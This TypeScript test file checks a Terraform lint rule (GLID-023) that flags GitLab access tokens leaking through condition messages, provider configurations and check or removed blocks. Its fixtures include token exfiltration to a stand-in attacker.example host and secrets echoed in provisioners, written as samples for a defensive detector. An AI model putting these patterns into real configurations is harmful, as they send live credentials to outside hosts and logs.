/**
 * Places Terraform itself prints or sends, where a secret is a GLID-023 error: condition messages (printed
 * in plan and apply logs when the condition fails), provider configurations (a provider sends its token to
 * its base_url), and blocks the engine does not otherwise read (`check` with scoped data sources and
 * asserts, `removed` with provisioners, `import`, `ephemeral`). Each was a bypass found by an adversarial
 * review: synth passed, and `terraform apply` printed the token or sent it to a listener.
 */
import { active, check, compliantToken, stack } from './engine-fixture';

const SECRET = '${nonsensitive(gitlab_project_access_token.t.token)}';
const withToken = (parts: Record<string, unknown> = {}, token: Record<string, unknown> = compliantToken()) =>
  stack({ ...parts, resource: { gitlab_project_access_token: { t: token }, ...(parts.resource as object | undefined) } });

const sinks = (parts: Record<string, unknown>, token?: Record<string, unknown>) =>
  active(check(withToken(parts, token)), 'GLID-023').map((f) => ({ level: f.level, address: f.address, message: f.message }));

describe('GLID-023 in condition messages', () => {
  test('given a postcondition on the token itself whose message prints self.token, then GLID-023', () => {
    const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: 'debug: ${nonsensitive(self.token)}' }] } });
    expect(sinks({}, token)).toEqual([expect.objectContaining({ level: 'error', address: 'gitlab_project_access_token.t', message: expect.stringContaining('lifecycle condition') })]);
  });

  test.each(['leak ${self.token}', '${nonsensitive(jsonencode(self))}', '${nonsensitive(self["token"])}', '${nonsensitive((self).token)}', '${nonsensitive([for k, v in self : v if k == "token"][0])}'])(
    'given a postcondition message %s on the token, then GLID-023: only plain non-secret attributes of self are skipped', (message) => {
      const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: message }] } });
      expect(sinks({}, token)).toEqual([expect.objectContaining({ address: 'gitlab_project_access_token.t' })]);
    });

  test('given a precondition on another resource, written as one object rather than a list, then GLID-023', () => {
    const other = { terraform_data: { x: { input: 'a', lifecycle: { precondition: { condition: '${true}', error_message: `t=${SECRET}` } } } } };
    expect(sinks({ resource: other })).toEqual([expect.objectContaining({ address: 'terraform_data.x' })]);
  });

  test('given an output precondition whose message prints the token, then GLID-023 on the output', () => {
    const output = { ok: { value: 'fine', precondition: [{ condition: '${true}', error_message: SECRET }] } };
    expect(sinks({ output })).toEqual([expect.objectContaining({ address: 'output.ok', message: expect.stringContaining('precondition') })]);
  });

  test('given condition messages that print only the expiry and the name, as the library\'s lapse check does, then nothing', () => {
    const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: '${self.name} expires at ${self.expires_at}' }] } });
    expect(sinks({ output: { ok: { value: 'x', precondition: [{ condition: '${true}', error_message: '${gitlab_project_access_token.t.id}' }] } } }, token)).toEqual([]);
  });
});

describe('GLID-023 in what a failed condition prints', () => {
  test('given a precondition whose condition refers to the token through a local, then GLID-023: the diagnostic prints the local', () => {
    const other = { terraform_data: { x: { input: 'a', lifecycle: { precondition: [{ condition: '${local.t == "nope"}', error_message: 'fails' }] } } } };
    expect(sinks({ resource: other, locals: { t: SECRET } })).toEqual([expect.objectContaining({ address: 'terraform_data.x' })]);
  });

  test('given a variable validation that prints the token, then GLID-023 on the variable', () => {
    const variable = { v: { type: 'string', default: 'x', validation: [{ condition: '${var.v != ""}', error_message: `leak ${SECRET}` }] } };
    expect(sinks({ variable })).toEqual([expect.objectContaining({ address: 'var.v' })]);
  });
});

describe('GLID-023 in provider configurations', () => {
  test('given a provider configured with the token and another base_url, then GLID-023 on the provider', () => {
    const provider = { gitlab: [{}, { alias: 'leak', base_url: 'https://attacker.example/api/v4', token: '${gitlab_project_access_token.t.token}' }] };
    expect(sinks({ provider })).toEqual([expect.objectContaining({ level: 'error', address: 'provider.gitlab.leak', message: expect.stringContaining('provider.gitlab.leak.token') })]);
  });

  test('given the stack\'s gitlab provider, or an alias with the same base_url, configured with the token, then nothing: it goes back to the GitLab that minted it', () => {
    const url = 'https://gitlab.example.com/api/v4';
    expect(sinks({ provider: { gitlab: [{ base_url: url }, { alias: 'bot', base_url: url, token: '${gitlab_project_access_token.t.token}' }] } })).toEqual([]);
    expect(sinks({ provider: { gitlab: [{ token: '${gitlab_project_access_token.t.token}' }] } })).toEqual([]);
  });

  test('given the default gitlab provider pointed elsewhere and a token minted through an alias, then GLID-023 on the default', () => {
    const provider = { gitlab: [{ base_url: 'https://attacker.example/api/v4', token: '${gitlab_project_access_token.t.token}' }, { alias: 'real', base_url: 'https://gitlab.com/api/v4' }] };
    expect(sinks({ provider }, compliantToken({ provider: 'gitlab.real' }))).toEqual([expect.objectContaining({ address: 'provider.gitlab' })]);
  });

  test('given the token in a gitlab provider\'s base_url, even the default one, then GLID-023', () => {
    const provider = { gitlab: [{ base_url: `https://x.example/${SECRET}` }] };
    expect(sinks({ provider })).toEqual([expect.objectContaining({ address: 'provider.gitlab', message: expect.stringContaining('base_url') })]);
  });

  test('given another provider type configured with the token, then GLID-023', () => {
    expect(sinks({ provider: { github: [{ token: '${gitlab_project_access_token.t.token}' }] } })).toEqual([expect.objectContaining({ address: 'provider.github' })]);
  });

  test('given a provider whose token is a variable, then nothing', () => {
    const provider = { gitlab: [{ token: '${var.gitlab_token}', base_url: 'https://gitlab.example.com/api/v4' }] };
    expect(sinks({ provider, variable: { gitlab_token: { type: 'string', sensitive: true } } })).toEqual([]);
  });
});

describe('GLID-023 in blocks the engine does not model', () => {
  test('given a check block whose scoped remote-state data source sends the token in its address, then GLID-023', () => {
    const block = { health: { data: { terraform_remote_state: { probe: { backend: 'http', config: { address: `https://attacker.example/state?t=${SECRET}` } } } }, assert: [{ condition: '${true}', error_message: 'ok' }] } };
    expect(sinks({ check: block })).toEqual([expect.objectContaining({ level: 'error', address: 'check.health' })]);
  });

  test('given a check block whose assert message prints the token, then GLID-023', () => {
    const block = { health: { assert: [{ condition: '${false}', error_message: `debug: ${SECRET}` }] } };
    expect(sinks({ check: block })).toEqual([expect.objectContaining({ address: 'check.health' })]);
  });

  test('given a removed block whose destroy-time provisioner echoes the token, then GLID-023', () => {
    const removed = [{ from: 'terraform_data.old', lifecycle: { destroy: false }, provisioner: { 'local-exec': { when: 'destroy', command: `echo ${SECRET}` } } }];
    expect(active(check(withToken({ removed: { r: removed } })), 'GLID-023')).toHaveLength(1);
  });

  test('given check and import blocks that hold no secret, then nothing', () => {
    const parts = { check: { health: { assert: [{ condition: '${gitlab_project_access_token.t.id != ""}', error_message: 'no id' }] } }, import: [{ to: 'gitlab_project_access_token.t', id: 'group/project:1' }] };
    expect(sinks(parts)).toEqual([]);
  });
});
